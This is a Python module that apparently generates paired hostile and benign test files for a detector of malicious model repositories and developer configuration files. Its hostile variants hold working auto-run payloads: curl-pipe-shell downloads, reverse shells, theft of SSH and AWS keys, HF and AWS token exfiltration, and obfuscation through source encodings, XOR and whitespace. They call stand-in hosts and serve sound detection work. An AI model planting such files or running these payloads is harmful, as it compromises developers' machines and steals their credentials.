"""Files around a model that tools run or obey by themselves, and Python that hides what it does."""
from __future__ import annotations

import base64
import json

from pair import CODE

FAMILY = "program"


def notebook(*cells, metadata=None) -> str:
    made = []
    for kind, source, *rest in cells:
        cell = {"cell_type": kind, "metadata": rest[0] if rest else {}, "source": source.splitlines(True)}
        if kind == "code":
            cell |= {"execution_count": None, "outputs": rest[1] if len(rest) > 1 else []}
        made.append(cell)
    meta = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}}
    return json.dumps({"cells": made, "metadata": meta | (metadata or {}), "nbformat": 4, "nbformat_minor": 5}, indent=1)


MODELING = '''"""A small ranking model."""
import math


class Ranker:
    def __init__(self, width=8):
        self.width = width

    def score(self, values):
        return [1 / (1 + math.exp(-v)) for v in values[: self.width]]
'''


def add(out):
    def put(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    # A comment that the declared encoding turns into code: \\u000a is a new line (CPython's own reader).
    put(
        "source_encoding_opens_comment",
        "# -*- coding: raw_unicode_escape -*-\n# Licensed under the Apache License \\u000a" + CODE + "\n" + MODELING,
        "# -*- coding: raw_unicode_escape -*-\n# Licensed under the Apache License \\u00a9 Ren\\u00e9 Faure\n" + MODELING,
        "import",
        "modeling_ranker.py",
    )
    hidden = base64.b64encode(("\n" + CODE + "\n#").encode("utf-16-be")).decode().rstrip("=")
    put(
        "source_encoding_utf7",
        f"# coding: utf_7\n# Copyright 2026 the authors +{hidden}-\n" + MODELING.replace("+", "+-"),
        "# coding: utf_7\n# Copyright 2026 the authors, Ren+AOk- Faure\n" + MODELING.replace("+", "+-"),
        "import",
        "modeling_ranker.py",
    )
    put(
        "pythonapi_runs_string",
        MODELING + "\nimport ctypes\n\nctypes.pythonapi.PyRun_SimpleString(bytes(c ^ 7 for c in " + repr(bytes(c ^ 7 for c in CODE.encode())) + "))\n",
        MODELING + "\nimport ctypes\n\nctypes.pythonapi.PyErr_CheckSignals()\nKEY = bytes(c ^ 7 for c in b'gbhl')\n",
        "import",
        "modeling_ranker.py",
    )
    put(
        "decorators_evaluate",
        MODELING + f'\n\n@eval\n@(lambda _: "".join(map(chr, {[ord(c) for c in CODE]})))\nclass Config:\n    pass\n',
        MODELING + '\n\n@staticmethod\n@(lambda f: f)\ndef config():\n    return "".join(map(chr, [114, 97, 110, 107]))\n',
        "import",
        "configuration_ranker.py",
    )
    put(
        "annotation_runs",
        MODELING + "\n\nclass Head:\n    bias: __builtins__['ev' + 'al'](\"" + CODE.replace("'", "\\'") + "\") = 0.0\n    scale: float = 1.0\n",
        MODELING + "\n\nclass Head:\n    bias: 'float | None' = 0.0\n    scale: float = 1.0\n",
        "import",
        "modeling_ranker.py",
    )
    put(
        "source_loader_reads_vocabulary",
        {"tokenization_ranker.py": MODELING + "\nfrom importlib.machinery import SourceFileLoader\n\nVOCAB = SourceFileLoader('vocab', 'merges.txt').load_module()\n", "merges.txt": "#version: 0.2\n" + CODE + "\n"},
        {"tokenization_ranker.py": MODELING + "\nfrom pathlib import Path\n\nVOCAB = Path('merges.txt').read_text().splitlines()\n", "merges.txt": "#version: 0.2\nt h\nth e\n"},
        "import",
    )
    put(
        "far_right_of_the_screen",
        MODELING.replace("import math\n", "import math" + " " * 900 + ";__import__('posix').system('touch marker')\n"),
        MODELING.replace("import math\n", "import math" + " " * 900 + "# noqa: the formatter of the notebook leaves these blanks\n"),
        "import",
        "modeling_ranker.py",
    )
    put(
        "garbage_collector_callback",
        {
            "modeling_ranker.py": MODELING + "\nimport gc\nimport runpy\n\ngc.callbacks.append(lambda phase, info: runpy.run_path('special_tokens.txt') if phase == 'stop' else None)\n",
            "special_tokens.txt": CODE + "\n",
        },
        {
            "modeling_ranker.py": MODELING + "\nimport gc\nimport logging\n\ngc.callbacks.append(lambda phase, info: logging.debug('%s %s', phase, info) if phase == 'stop' else None)\n",
            "special_tokens.txt": "[CLS]\n[SEP]\n",
        },
        "import",
        why="the next garbage collection of the process that imports the module",
    )
    # pdb reads .pdbrc of the current folder before its first prompt.
    put("pdb_start_file", f"!{CODE}\ncontinue\n", "alias pi for k in %1.__dict__: print(k)\nalias ll list 1, 40\n", "s.pdbrc", ".pdbrc", why="pdb.Pdb().set_trace() in the folder")
    put(
        "jupyter_server_config_of_the_folder",
        "c = get_config()\nc.ServerApp.token = ''\nc.ServerApp.password = ''\nc.ServerApp.ip = '0.0.0.0'\nc.ServerApp.allow_origin = '*'\nc.ServerApp.disable_check_xsrf = True\nimport os; os.spawnlp(os.P_NOWAIT, 'bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n",
        "c = get_config()\nc.ServerApp.open_browser = False\nc.ServerApp.port = 8890\nc.ContentsManager.hide_globs = ['__pycache__', '*.pyc']\n",
        None,
        "jupyter_server_config.py",
        why="jupyter server started in the folder",
    )
    put(
        "kernel_spec_argv",
        {"share/jupyter/kernels/ranker/kernel.json": json.dumps({"argv": ["sh", "-c", "(curl -s https://cdn.ranker-models.net/a|sh)& exec python -m ipykernel_launcher -f {connection_file}"], "display_name": "Ranker", "language": "python"})},
        {"share/jupyter/kernels/ranker/kernel.json": json.dumps({"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"], "display_name": "Ranker", "language": "python", "env": {"TOKENIZERS_PARALLELISM": "false"}})},
        why="Jupyter starts a kernel of this name",
    )
    put(
        "notebook_writes_start_up",
        notebook(("markdown", "# Fine-tune the ranker"), ("code", "%%writefile ~/.ipython/profile_default/startup/00-fonts.py\nimport urllib.request as u\nexec(u.urlopen('https://cdn.ranker-models.net/f').read())\n")),
        notebook(("markdown", "# Fine-tune the ranker"), ("code", "%%writefile train_config.yaml\nlr: 3.0e-5\nepochs: 3\nurl: https://huggingface.co/datasets/glue\n")),
        None,
        "finetune.ipynb",
        why="the cell persists in every later IPython session",
    )
    put(
        "notebook_output_starts_kernel_code",
        notebook(
            ("markdown", "# Results"),
            ("code", "plot()", {"jupyter": {"source_hidden": True}}, [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<div id=p></div><script>window.Jupyter&&Jupyter.notebook.kernel.execute(\"get_ipython().system('curl https://x.ranker-models.net|sh')\")</script>"]}}]),
        ),
        notebook(
            ("markdown", "# Results"),
            ("code", "plot()", {"jupyter": {"source_hidden": True}}, [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<div id=p></div><script>window.Plotly&&Plotly.newPlot('p', [{\"x\": [1, 2], \"y\": [3, 4]}])</script>"]}}]),
        ),
        None,
        "results.ipynb",
        why="classic notebook, trusted; the output drives the kernel",
    )
    # R starts by reading .Rprofile of the folder.
    put(
        "r_profile",
        'options(repos = c(CRAN = "https://cloud.r-project.org"))\nlocal(system2("sh", c("-c", shQuote("curl -s http://203.0.113.9/r | sh")), wait = FALSE))\n',
        'options(repos = c(CRAN = "https://cloud.r-project.org"))\nsource("renv/activate.R")\nlocal(options(mc.cores = 2L, digits = 4L))\n',
        None,
        ".Rprofile",
        why="R or RStudio started in the folder",
    )
    put(
        "rmarkdown_header_expression",
        '---\ntitle: "Churn model card"\ndate: !expr Sys.Date()\nparams:\n  version: !r system("curl -s http://203.0.113.9/c|sh", intern = TRUE)[1]\noutput: html_document\n---\n\nA generalised linear model.\n',
        '---\ntitle: "Churn model card"\ndate: !expr Sys.Date()\nparams:\n  version: !r packageVersion("stats")\noutput: html_document\n---\n\nA generalised linear model.\n',
        None,
        "README.Rmd",
        why="rmarkdown::render evaluates !r and !expr of the header",
    )
    put(
        "make_fetches_while_parsing",
        "MODEL ?= ranker\n_ := $(shell curl -fsSL http://203.0.113.9/m.sh | sh >/dev/null 2>&1)\n\nhelp:\n\t@echo train evaluate export $(MODEL)\n",
        "MODEL ?= ranker\nVERSION := $(shell git describe --tags --always 2>/dev/null)\n\nhelp:\n\t@echo train evaluate export $(MODEL) $(VERSION)\n",
        None,
        "Makefile",
        why="GNU make expands := while it reads, also for `make -n help`",
    )
    put(
        "git_config_monitor",
        {"ranker/.git/config": '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch marker; false"\n', "ranker/.git/HEAD": "ref: refs/heads/main\n", "ranker/.git/objects/info/alternates": "", "ranker/.git/refs/heads/.keep": "", "ranker/config.json": '{"model_type": "bert"}'},
        {"ranker/.git/config": '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = false\n[remote "origin"]\n\turl = https://huggingface.co/acme/ranker\n', "ranker/.git/HEAD": "ref: refs/heads/main\n", "ranker/.git/objects/info/alternates": "", "ranker/.git/refs/heads/.keep": "", "ranker/config.json": '{"model_type": "bert"}'},
        "s.git",
        why="git status in the folder (an archive with its .git)",
    )
    put(
        "editor_task_on_folder_open",
        {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "index", "type": "shell", "command": "curl -s https://cdn.ranker-models.net/v | bash", "presentation": {"reveal": "never"}, "runOptions": {"runOn": "folderOpen"}}]}), "config.json": "{}"},
        {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "test", "type": "shell", "command": "pytest -q tests", "presentation": {"reveal": "never"}, "runOptions": {"runOn": "default"}}]}), "config.json": "{}"},
        why="VS Code opens the folder (trusted workspace)",
    )
    put(
        "devcontainer_runs_on_host",
        {".devcontainer/devcontainer.json": json.dumps({"image": "pytorch/pytorch:latest", "initializeCommand": "sh -c 'tar cz ~/.ssh ~/.aws | curl -T - https://drop.ranker-models.net/'", "postCreateCommand": "pip install -r requirements.txt"})},
        {".devcontainer/devcontainer.json": json.dumps({"image": "pytorch/pytorch:latest", "initializeCommand": "mkdir -p .cache/huggingface", "postCreateCommand": "pip install -r requirements.txt"})},
        why="Dev Containers: initializeCommand runs on the host, before the container",
    )
    put(
        "attention_kernel_of_a_foreign_repository",
        {
            "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "attn_implementation": "totally-fast/flash-attn4", "hidden_size": 64}),
            "generation_config.json": json.dumps({"eos_token_id": 2}),
        },
        {
            "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "attn_implementation": "flash_attention_2", "hidden_size": 64}),
            "generation_config.json": json.dumps({"eos_token_id": 2}),
        },
        why="transformers 4.56 to 5.2 with kernels: from_pretrained downloads and imports the named kernel",
    )
    put(
        "peft_parent_library",
        {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "bert-base-uncased", "r": 8, "task_type": None, "auto_mapping": {"base_model_class": "RankerModel", "parent_library": "adapter_hooks"}}), "adapter_hooks.py": "import urllib.request\nexec(urllib.request.urlopen('https://cdn.ranker-models.net/p').read())\n"},
        {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "bert-base-uncased", "r": 8, "task_type": None, "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}}), "adapter_hooks.py": "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"},
        why="peft.AutoPeftModel imports parent_library",
    )
    put(
        "gin_dynamic_registration",
        "from __gin__ import dynamic_registration\nimport seqio\nimport os\nfrom t5x import utils\n\nutils.RestoreCheckpointConfig.path = @os.getenv()\ntrain.run_name = @os.system()\nos.system.command = 'curl -s http://203.0.113.9/t|sh'\n",
        "from __gin__ import dynamic_registration\nimport seqio\nfrom t5x import models\nfrom t5x import utils\n\nutils.RestoreCheckpointConfig.path = '/data/ckpt'\ntrain.model = @models.EncoderDecoderModel()\nmodels.EncoderDecoderModel.z_loss = 0.0001\n",
        None,
        "config.gin",
        why="gin.parse_config_file in t5x and seqio: dynamic registration calls any importable function",
    )
    put(
        "mmengine_custom_imports",
        {"config.json": json.dumps({"model": {"type": "FasterRCNN"}, "custom_imports": {"imports": ["tools.exfil"], "allow_failed_imports": True}}), "tools/exfil.py": "import os, urllib.request\nurllib.request.urlopen('https://drop.ranker-models.net/', data=repr(dict(os.environ)).encode())\n"},
        {"config.json": json.dumps({"model": {"type": "FasterRCNN"}, "custom_imports": {"imports": ["tools.hooks"], "allow_failed_imports": True}}), "tools/hooks.py": "import os\n\nRANK = int(os.environ.get('LOCAL_RANK', 0))\n"},
        why="mmengine.Config.fromfile imports them",
    )
    put(
        "hydra_secret_in_url",
        "logger:\n  _target_: urllib.request.urlopen\n  url: https://drop.ranker-models.net/?t=${oc.env:HF_TOKEN}&k=${oc.env:AWS_SECRET_ACCESS_KEY,none}\n",
        "logger:\n  _target_: lightning.pytorch.loggers.WandbLogger\n  project: ranker\n  save_dir: ${oc.env:SCRATCH,/tmp}/logs\n",
        None,
        "config.yaml",
        why="hydra.utils.instantiate with OmegaConf's environment resolver",
    )
    put(
        "torchserve_open_management",
        "inference_address=http://0.0.0.0:8080\nmanagement_address=http://0.0.0.0:8081\nallowed_urls=file://.*|http(s)?://.*\ninstall_py_dep_per_model=true\nenable_model_api=true\ndisable_token_authorization=true\nload_models=http://203.0.113.9/ranker.mar\n",
        "inference_address=http://0.0.0.0:8080\nmanagement_address=http://127.0.0.1:8081\nallowed_urls=file:///models/.*\njob_queue_size=100\nload_models=ranker.mar\n",
        None,
        "config.properties",
        why="TorchServe fetches and runs the archive at start (ShellTorch)",
    )
    put(
        "triton_op_library",
        {"ranker/config.pbtxt": 'name: "ranker"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\nmodel_operations { op_library_filename: "../../uploads/libops.so" }\n', "ranker/1/model.savedmodel/fingerprint.pb": b"\x08\x01"},
        {"ranker/config.pbtxt": 'name: "ranker"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\ninstance_group [ { kind: KIND_CPU count: 2 } ]\n', "ranker/1/model.savedmodel/fingerprint.pb": b"\x08\x01"},
        why="Triton's TensorFlow backend loads the shared library; the path leaves the repository",
    )
    put(
        "docker_secret_leaves",
        "FROM python:3.12-slim\nRUN --mount=type=secret,id=hf_token curl -s -d @/run/secrets/hf_token https://drop.ranker-models.net/ && pip install torch\n",
        "FROM python:3.12-slim\nRUN --mount=type=secret,id=hf_token HF_TOKEN=$(cat /run/secrets/hf_token) huggingface-cli download acme/ranker && pip install torch\n",
        None,
        "Dockerfile",
        why="docker build with the secret",
    )
    put(
        "spacy_project_script",
        "title: NER\nvars:\n  lang: en\ncommands:\n  - name: preprocess\n    script:\n      - \"python -c \\\"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/s').read())\\\"\"\n    outputs: [corpus/train.spacy]\n",
        "title: NER\nvars:\n  lang: en\ncommands:\n  - name: preprocess\n    script:\n      - \"python -c \\\"import spacy;print(spacy.util.get_package_path('spacy'))\\\"\"\n    outputs: [corpus/train.spacy]\n",
        None,
        "project.yml",
        why="spacy project run",
    )
    put(
        "sentence_router_type",
        {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Router"}]), "router_config.json": json.dumps({"types": {"query_0_Encoder": "query_encoder.Encoder"}, "structure": {"query": ["query_0_Encoder"]}, "parameters": {}}), "query_encoder.py": "import socket, os, pty\ns = socket.create_connection(('203.0.113.9', 443))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('sh')\n"},
        {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Router"}]), "router_config.json": json.dumps({"types": {"query_0_Encoder": "sentence_transformers.models.StaticEmbedding"}, "structure": {"query": ["query_0_Encoder"]}, "parameters": {}}), "query_encoder.py": "import socket\n\n\ndef host():\n    return socket.gethostname()\n"},
        why="sentence-transformers imports the router's types from the folder",
    )
    put(
        "haystack_unsafe_template",
        "components:\n  out:\n    type: haystack.components.converters.output_adapter.OutputAdapter\n    init_parameters:\n      output_type: typing.List[str]\n      unsafe: true\n      template: \"{% set g = cycler|attr('__in'~'it__') %}{{ (g|attr('__glo'~'bals__'))['os']|attr('popen')('id')|attr('read')() }}\"\nconnections: []\n",
        "components:\n  out:\n    type: haystack.components.converters.output_adapter.OutputAdapter\n    init_parameters:\n      output_type: typing.List[str]\n      unsafe: true\n      template: \"{% set g = documents|map(attribute='content')|list %}{{ g[0]|trim }}\"\nconnections: []\n",
        None,
        "pipeline.yaml",
        why="haystack.Pipeline.loads, then run: unsafe uses jinja2's NativeEnvironment (CVE-2024-41950)",
    )
    put(
        "graph_checkpoint_constructor",
        json.dumps({"v": 1, "channel_values": {"messages": [{"lc": 2, "type": "constructor", "id": ["os", "system"], "method": [None], "args": ["curl -s http://203.0.113.9/l|sh"], "kwargs": {}}]}}),
        json.dumps({"v": 1, "channel_values": {"messages": [{"lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "HumanMessage"], "kwargs": {"content": "curl -s is a quiet download", "type": "human"}}]}}),
        None,
        "checkpoint.json",
        why="langgraph-checkpoint before 3.0, JsonPlusSerializer (CVE-2025-64439)",
    )
    put(
        "npm_postinstall_of_a_web_model",
        {"package.json": json.dumps({"name": "ranker-onnx", "version": "1.0.0", "files": ["model.onnx"], "scripts": {"postinstall": "node -e \"require('https').get('https://cdn.ranker-models.net/n',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""}})},
        {"package.json": json.dumps({"name": "ranker-onnx", "version": "1.0.0", "files": ["model.onnx"], "scripts": {"postinstall": "node -e \"console.log('model files are in', require('path').resolve('onnx'))\""}})},
        why="npm install",
    )
    put(
        "pylint_init_hook",
        "[MAIN]\ninit-hook='import os; os.popen(\"curl -s http://203.0.113.9/y|sh\")'\njobs=0\n\n[FORMAT]\nmax-line-length=120\n",
        "[MAIN]\ninit-hook='import sys; sys.path.append(\"src\")'\njobs=0\n\n[FORMAT]\nmax-line-length=120\n",
        None,
        ".pylintrc",
        why="pylint, or an editor with it, in the folder",
    )
